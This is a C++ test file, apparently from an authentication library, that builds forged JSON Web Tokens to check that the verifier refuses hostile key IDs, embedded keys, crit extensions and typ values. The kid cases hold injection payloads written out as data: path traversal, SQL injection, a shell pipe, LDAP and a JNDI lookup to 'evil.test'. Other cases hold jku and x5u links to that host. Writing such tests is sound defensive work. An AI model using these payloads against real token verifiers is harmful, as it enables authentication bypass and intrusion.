// The choice of the key: a kid that is a path, a query or no string; keys in the token; extensions; types
// (RFC 7515 section 4.1, RFC 8725 sections 3.10 and 3.11).
#include "core/auth/base64url.hpp"
#include "core/crypto/sign.hpp"
#include "tests/attacks/attack.hpp"

namespace portail {
namespace {

std::string header_and(std::string_view members) {
  return R"({"alg":"EdDSA","kid":"test-eddsa")" + std::string(members) + "}";
}

// The attacker's own key.
Ed25519Seed own_seed() {
  Ed25519Seed seed;
  seed.fill(std::byte{0x66});
  return seed;
}

std::string own_jwk() {
  const Ed25519PublicKey key = public_key_of(own_seed());
  return R"({"kty":"OKP","crv":"Ed25519","kid":"test-eddsa","alg":"EdDSA","x":")" + base64url_encode(key.point) + "\"}";
}

std::string own_token(std::string_view header, const std::string& claims = good_claims()) {
  const std::string input = base64url_encode(header) + '.' + base64url_encode(claims);
  return input + '.' + base64url_encode(std::span<const std::byte>(sign_eddsa(own_seed(), input)));
}

}  // namespace

std::vector<Attack> key_attacks() {
  using namespace refusal;
  std::vector<Attack> attacks;
  const auto try_kid = [&attacks](std::string_view name, std::string_view json, std::string_view answer) {
    attacks.push_back(with_token(name, eddsa_token(R"({"alg":"EdDSA","kid":)" + std::string(json) + "}"), answer));
  };
  try_kid("a path", R"("../../../../dev/null")", key_unknown);
  try_kid("an absolute path", R"("/dev/null")", key_unknown);
  try_kid("an address", R"("https://evil.test/key.json")", key_unknown);
  try_kid("a file address", R"("file:///etc/passwd")", key_unknown);
  try_kid("SQL", R"("x' UNION SELECT 'secret' -- ")", key_unknown);
  try_kid("SQL around the name", R"("test-eddsa' OR '1'='1")", key_unknown);
  try_kid("a shell", R"("test-eddsa|id")", key_unknown);
  try_kid("LDAP", R"("*)(uid=*")", key_unknown);
  try_kid("a template", R"("${jndi:ldap://evil.test/a}")", key_unknown);
  try_kid("a NUL after the name", R"("test-eddsa\u0000")", key_unknown);
  try_kid("a NUL before the name", R"("\u0000test-eddsa")", key_unknown);
  try_kid("a line end after the name", R"("test-eddsa\n")", key_unknown);
  try_kid("a space after the name", R"("test-eddsa ")", key_unknown);
  try_kid("another case", R"("TEST-EDDSA")", key_unknown);
  try_kid("a wide letter", R"("\uff54est-eddsa")", key_unknown);
  try_kid("a prefix of the name", R"("test-edds")", key_unknown);
  try_kid("the index in the set", R"("0")", key_unknown);
  try_kid("a member of every object", R"("__proto__")", key_unknown);
  try_kid("empty", R"("")", key_unknown);
  try_kid("4,000 letters", '"' + std::string(4000, 'k') + '"', key_unknown);
  try_kid("null", "null", key_not_string);
  try_kid("a number", "0", key_not_string);
  try_kid("true", "true", key_not_string);
  try_kid("an array", R"(["test-eddsa"])", key_not_string);
  try_kid("an object", R"({"kid":"test-eddsa"})", key_not_string);
  try_kid("the name of another key", R"("test-hs256")", key_of_other_algorithm);
  attacks.push_back(with_token("the attacker's key under a good kid", own_token(good_header), signature));
  attacks.push_back(with_token("the attacker's key without a kid", own_token(R"({"alg":"EdDSA"})"), signature));
  try_kid("the name", R"("test-eddsa")", accepted);
  try_kid("the name, written with escapes", R"("\u0074est\u002deddsa")", accepted);
  attacks.push_back(with_token("no kid, and one key of the algorithm", eddsa_token(R"({"alg":"EdDSA"})"), accepted));
  return attacks;
}

std::vector<Attack> embedded_key_attacks() {
  using namespace refusal;
  std::vector<Attack> attacks;
  const auto try_header = [&attacks](std::string_view name, const std::string& members) {
    attacks.push_back(with_token(name, own_token(header_and(members)), signature));
  };
  try_header("jwk", R"(,"jwk":)" + own_jwk());
  try_header("jwk as text", R"(,"jwk":"{\"kty\":\"OKP\"}")");
  try_header("jku", R"(,"jku":"https://evil.test/jwks.json")");
  try_header("jku beneath the issuer", R"(,"jku":"https://issuer.test/../evil/jwks.json")");
  try_header("jku with a user", R"(,"jku":"https://issuer.test@evil.test/jwks.json")");
  try_header("jku to the machine itself", R"(,"jku":"http://127.0.0.1/jwks.json")");
  try_header("x5u", R"(,"x5u":"https://evil.test/chain.pem")");
  try_header("x5c", R"(,"x5c":["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"])");
  try_header("x5t", R"(,"x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA")");
  try_header("all of them",
             R"(,"jku":"https://evil.test/jwks","x5u":"https://evil.test/x","x5c":["AA"],"jwk":)" + own_jwk());
  attacks.push_back(with_token("jwk and its own kid",
                               own_token(R"({"alg":"EdDSA","kid":"mine","jwk":)" + own_jwk() + "}"), key_unknown));
  attacks.push_back(
      with_token("jwk without a kid", own_token(R"({"alg":"EdDSA","jwk":)" + own_jwk() + "}"), signature));
  attacks.push_back(with_token("a key in the claims",
                               own_token(good_header, claims_and(R"(,"cnf":{"jwk":)" + own_jwk() + "}")), signature));
  attacks.push_back(with_token("the service's key, and another key as jwk",
                               eddsa_token(header_and(R"(,"jku":"https://evil.test/jwks","jwk":)" + own_jwk())),
                               accepted));
  return attacks;
}

std::vector<Attack> extension_attacks() {
  using namespace refusal;
  std::vector<Attack> attacks;
  const auto try_extension = [&attacks](std::string_view name, std::string_view members, std::string_view answer) {
    attacks.push_back(with_token(name, eddsa_token(header_and(members)), answer));
  };
  try_extension("crit names b64", R"(,"crit":["b64"],"b64":true)", critical);
  try_extension("crit names what is not there", R"(,"crit":["exp"])", critical);
  try_extension("crit names an unknown member", R"(,"crit":["https://evil.test/x"],"https://evil.test/x":1)", critical);
  try_extension("crit names a registered member", R"(,"crit":["alg"])", critical);
  try_extension("crit names itself", R"(,"crit":["crit"])", critical);
  try_extension("empty crit", R"(,"crit":[])", critical);
  try_extension("crit is null", R"(,"crit":null)", critical);
  try_extension("crit is text", R"(,"crit":"b64")", critical);
  try_extension("crit is an object", R"(,"crit":{})", critical);
  try_extension("crit written with escapes", R"(,"\u0063rit":["b64"])", critical);
  // RFC 7797: the payload is not encoded. Without crit, readers of RFC 7515 ignore b64.
  attacks.push_back(with_token("an unencoded payload",
                               eddsa_over(base64url_encode(header_and(R"(,"b64":false)")), "{}"), claims_encoding));
  attacks.push_back(with_token("an unencoded payload, asked for by crit",
                               eddsa_over(base64url_encode(header_and(R"(,"b64":false,"crit":["b64"])")), "{}"),
                               critical));
  attacks.push_back(with_token("a detached payload", eddsa_over(base64url_encode(good_header), ""), claims_json));
  try_extension("b64 alone means nothing", R"(,"b64":false)", accepted);
  try_extension("CRIT is another name", R"(,"CRIT":["b64"])", accepted);
  try_extension("unknown members", R"(,"nonce":"x","zip":"DEF","cty":"JSON")", accepted);
  return attacks;
}

std::vector<Attack> type_attacks() {
  std::vector<Attack> attacks;
  const auto try_type = [&attacks](std::string_view name, std::string_view json, std::string_view answer) {
    attacks.push_back(with_token(name, eddsa_token(header_and(R"(,"typ":)" + std::string(json))), answer));
  };
  try_type("an ID token", R"("id+jwt")", refusal::header_type);
  try_type("a logout token", R"("logout+jwt")", refusal::header_type);
  try_type("a DPoP proof", R"("dpop+jwt")", refusal::header_type);
  try_type("a security event", R"("secevent+jwt")", refusal::header_type);
  try_type("a client's assertion", R"("client-authentication+jwt")", refusal::header_type);
  try_type("a request object", R"("oauth-authz-req+jwt")", refusal::header_type);
  try_type("JOSE", R"("JOSE")", refusal::header_type);
  try_type("JWE", R"("JWE")", refusal::header_type);
  try_type("the media type of a logout token", R"("application/logout+jwt")", refusal::header_type);
  try_type("the prefix of a media type twice", R"("application/application/jwt")", refusal::header_type);
  try_type("the prefix of a media type alone", R"("application/")", refusal::header_type);
  try_type("a media type of texts", R"("text/jwt")", refusal::header_type);
  try_type("a parameter", R"("at+jwt; x=1")", refusal::header_type);
  try_type("a space", R"("at+jwt ")", refusal::header_type);
  try_type("a NUL", R"("at+jwt\u0000")", refusal::header_type);
  try_type("a wide letter", R"("\uff2aWT")", refusal::header_type);
  try_type("empty", R"("")", refusal::header_type);
  try_type("null", "null", refusal::header_type);
  try_type("an array", R"(["at+jwt"])", refusal::header_type);
  try_type("a number", "1", refusal::header_type);
  try_type("JWT", R"("JWT")", accepted);
  try_type("jwt", R"("jwt")", accepted);
  try_type("at+jwt", R"("at+jwt")", accepted);
  try_type("application/jwt", R"("application/jwt")", accepted);
  try_type("Application/JWT", R"("Application/JWT")", accepted);
  try_type("application/AT+JWT", R"("application/AT+JWT")", accepted);
  return attacks;
}

}  // namespace portail
